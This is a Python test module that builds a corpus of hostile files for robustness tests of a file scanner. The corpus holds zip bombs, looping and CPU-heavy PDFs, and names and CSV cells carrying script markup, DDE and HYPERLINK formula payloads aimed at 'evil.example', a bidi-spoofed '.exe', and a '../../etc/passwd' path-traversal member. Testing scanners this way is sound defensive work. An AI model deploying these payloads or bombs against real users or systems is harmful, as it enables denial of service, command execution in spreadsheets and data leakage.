"""Builder of the hostile corpus: every kind of file a share or a returned USB stick throws
at a scanner, made in seconds (used by tests/hostile and bench/hostile.py).

    from tests.hostile.corpus import build_hostile_corpus   # repo root on sys.path
    cases = build_hostile_corpus(Path("/tmp/hostile"), many_files=20_000)

Returns ``{"/"-separated relative path: case}`` for every file (the regular files, and
the FIFO); ``case`` names the row of :data:`CASES` it belongs to.  Huge files are sparse
or compress to nothing on disk: the corpus takes well under 200 MB of disk whatever it
claims to hold.
"""

from __future__ import annotations

import hashlib
import io
import os
import random
import stat
import zipfile
import zlib
from pathlib import Path

from tests.hostile.seeds import TEXT, seed_files, truncated

MIB = 1024 * 1024
# A fixed, old access time: a scan that reads without O_NOATIME moves it (relatime
# updates an atime older than the mtime), so the test can tell.
OLD_ATIME_NS = 978_307_200 * 10**9  # 2001-01-01
MTIME_NS = 1_700_000_000 * 10**9

HOSTILE_NAMES = {
    "script": "<script>alert(1)</script>.txt",
    "img": "<img src=x onerror=alert(2)>.html",
    "hyperlink": '=HYPERLINK("evil.example?"&A1,"open me").csv',
    "plus": "+cmd|' /C calc'!A0.csv",
    "at": "@SUM(1+1).txt",
    "newline": "line one\nline two.txt",
    "tab_cr": "\tcarriage\rreturn.txt",
    "bidi": "invoice\u202etxt.exe",
}
INVALID_UTF8_NAME = b"bad-\xff\xfe-name.txt"
FORMULA_TEXT = (
    'Name,Note\n=HYPERLINK("http://evil.example/?"&A1,"click"),=1+2\n'
    '@SUM(A1:A2),+cmd|\' /C calc\'!A0\n-2+3,"=cmd|\'/C calc\'!A0"\n'
)


def _write(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def zeros_zip(member_bytes: int, name: str = "zeros.bin") -> bytes:
    """A zip with one deflated member of ``member_bytes`` zeros (about 1000:1)."""
    out = io.BytesIO()
    info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "w") as archive, archive.open(info, "w", force_zip64=True) as sink:
        block = bytes(MIB)
        for _ in range(member_bytes // MIB):
            sink.write(block)
    return out.getvalue()


def _zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), data,
                             zipfile.ZIP_DEFLATED)
    return out.getvalue()


def nested_zip(depth: int, fanout: int = 1, bottom: bytes = b"Amelia Jones DOB 02/03/2015\n",
               bottom_name: str = "bottom.txt") -> bytes:
    """``depth`` zips inside each other, each holding ``fanout`` copies of the next."""
    data, name = bottom, bottom_name
    for level in range(depth):
        data = _zip_of({f"copy{i}-{name}": data for i in range(fanout)})
        name = f"level{depth - level}.zip"
    return data


def _pdf(objects: list[bytes]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, xref))
    return out.getvalue()


def pdf_reference_loop() -> bytes:
    """The page tree is an indirect reference that points at itself through another
    (2 0 R -> 3 0 R -> 2 0 R), plus a Kids array holding its own parent."""
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"3 0 R", b"2 0 R"])


def pdf_kids_loop() -> bytes:
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                 b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                 b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"])


def pdf_spin(operators: int = 2_000_000) -> bytes:
    """A 21 KB PDF whose one page runs ``operators`` text operators: pdfminer takes about
    11 s and 1.2 GB on 2,000,000 of them."""
    content = zlib.compress(b"BT /F1 1 Tf " + b"(a) Tj " * operators + b"ET", 9)
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content
        + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


# case -> what it is (the bench and the closing note print this).
CASES = {
    "zip_bomb": "300 MiB of zeros deflated to 300 KiB in one zip member",
    "nested_bomb": "zips 5 deep, 4 copies of the next in each, a zip bomb at the bottom",
    "deep_archive": "a text file in zips nested 6 deep (the depth limit is 3)",
    "pdf_reference_loop": "a PDF whose page tree is a loop of indirect references",
    "pdf_kids_loop": "a PDF whose page tree lists itself among its kids",
    "pdf_spin": "a 21 KB PDF with 2 million text operators on one page",
    "sparse_1gb": "a 1 GiB sparse file named .txt",
    "line_100mb": "a single 100 MiB line of text",
    "binary_disguised": "random bytes named .txt, .csv and .docx",
    "truncated": "the first half of a valid file of each supported type",
    "empty": "a zero-byte file of each supported type",
    "hostile_name": "names with markup, formulas, newlines, tabs and bidi overrides",
    "invalid_utf8_name": "a name with bytes that are not UTF-8",
    "formula_content": "a CSV whose cells are formula payloads",
    "hostile_member": "a zip whose members have markup and formula names",
    "deep_folders": "a file 40 folders deep",
    "many_files": "thousands of files in one folder",
    "fifo": "a named pipe (never opened)",
    "symlink_loop": "a folder symlink pointing at its own parent (not a file)",
}


def build_hostile_corpus(root: Path, *, many_files: int = 2_000,
                         spin_operators: int = 2_000_000) -> dict[str, str]:
    """Build the corpus under ``root``; return every file's relative path and its case."""
    rng = random.Random(8)
    cases: dict[str, str] = {}

    def put(rel: str, data: bytes, case: str) -> None:
        _write(root / rel, data)
        cases[rel] = case

    put("bombs/zip_bomb.zip", zeros_zip(300 * MIB), "zip_bomb")
    put("bombs/nested_bomb.zip", nested_zip(5, 4, zeros_zip(16 * MIB), "bomb.zip"),
        "nested_bomb")
    put("bombs/deep_archive.zip", nested_zip(6), "deep_archive")
    put("pdf/reference_loop.pdf", pdf_reference_loop(), "pdf_reference_loop")
    put("pdf/kids_loop.pdf", pdf_kids_loop(), "pdf_kids_loop")
    put("pdf/spin.pdf", pdf_spin(spin_operators), "pdf_spin")

    big = root / "big"
    big.mkdir(parents=True)
    with open(big / "sparse_1GB.txt", "wb") as handle:
        handle.truncate(1024 * MIB)
    cases["big/sparse_1GB.txt"] = "sparse_1gb"
    # Plain words: the line tests reading and memory, and detection over 2,000,000 characters
    # of them takes about 4 s (a line of names and numbers takes longer).
    sentence = b"lorem ipsum dolor sit amet, consectetur adipiscing elit. "
    chunk = sentence * (MIB // len(sentence) + 1)
    with open(big / "one_line_100MB.txt", "wb") as handle:
        for _ in range(100):
            handle.write(chunk[:MIB])
    cases["big/one_line_100MB.txt"] = "line_100mb"

    for ext in ("txt", "csv", "docx"):
        put(f"disguised/binary.{ext}", rng.randbytes(64 * 1024), "binary_disguised")
    for name, data in seed_files().items():
        ext = name.rsplit(".", 1)[1]
        put(f"truncated/half.{ext}", truncated(data), "truncated")
        put(f"empty/empty.{ext}", b"", "empty")

    for key, name in HOSTILE_NAMES.items():
        # Personal data inside, so the reports list them (the HTML lists files with findings).
        put(f"names/{name}", f"{TEXT}\nhostile name {key}\n".encode(), "hostile_name")
    bad = os.fsencode(root / "names") + b"/" + INVALID_UTF8_NAME
    with open(bad, "wb") as handle:
        handle.write(TEXT.encode())
    cases["names/" + INVALID_UTF8_NAME.decode("utf-8", "surrogateescape")] = "invalid_utf8_name"
    put("names/formulas.csv", FORMULA_TEXT.encode(), "formula_content")
    put("names/members.zip", _zip_of({
        "<script>alert(3)</script>.txt": TEXT.encode(),
        '=HYPERLINK("http://evil.example/","x").csv': b"a,b\n1,2\n",
        "../../etc/passwd": b"not really",
    }), "hostile_member")

    deep = root / "deep" / "/".join(f"level{i:02d}" for i in range(1, 41))
    _write(deep / "bottom.txt", b"forty folders down\n")
    cases[(deep / "bottom.txt").relative_to(root).as_posix()] = "deep_folders"

    many = root / "many"
    many.mkdir()
    for i in range(many_files):
        (many / f"f{i:05d}.txt").write_bytes(b"")
        cases[f"many/f{i:05d}.txt"] = "many_files"

    special = root / "special"
    special.mkdir()
    os.mkfifo(special / "pipe")
    cases["special/pipe"] = "fifo"
    (root / "loop").mkdir()
    os.symlink("..", root / "loop" / "again", target_is_directory=True)

    _age(root)
    return cases


def _age(root: Path) -> None:
    """Give every file a fixed mtime and an old atime (see OLD_ATIME_NS)."""
    for dirpath, _dirs, files in os.walk(os.fsencode(root)):
        for name in files:
            os.utime(os.path.join(dirpath, name), ns=(OLD_ATIME_NS, MTIME_NS),
                     follow_symlinks=False)


_O_NOATIME = getattr(os, "O_NOATIME", 0)


def _digest(path: bytes) -> str:
    # Read without touching the atime the test checks (O_NOATIME: owner or root only).
    try:
        fd = os.open(path, os.O_RDONLY | _O_NOATIME)
    except PermissionError:
        fd = os.open(path, os.O_RDONLY)
    digest = hashlib.sha256()
    with os.fdopen(fd, "rb") as handle:
        while block := handle.read(4 * MIB):
            digest.update(block)
    return digest.hexdigest()


def snapshot(root: Path) -> dict[bytes, tuple[str, int, int, int, int]]:
    """Every file (raw relative path) -> (sha256, size, mtime_ns, mode, atime_ns).

    Symlinks and FIFOs are listed with their lstat() but never opened."""
    out: dict[bytes, tuple[str, int, int, int, int]] = {}
    base = os.fsencode(root)
    for dirpath, dirs, files in os.walk(base):
        for name in files + [d for d in dirs if os.path.islink(os.path.join(dirpath, d))]:
            path = os.path.join(dirpath, name)
            st = os.lstat(path)
            if not stat.S_ISREG(st.st_mode):
                digest = ""
            elif st.st_blocks == 0 and st.st_size:
                digest = "all holes"  # sparse, nothing stored: any write would allocate
            else:
                digest = _digest(path)
            out[os.path.relpath(path, base)] = (digest, st.st_size, st.st_mtime_ns,
                                                st.st_mode, st.st_atime_ns)
    return out
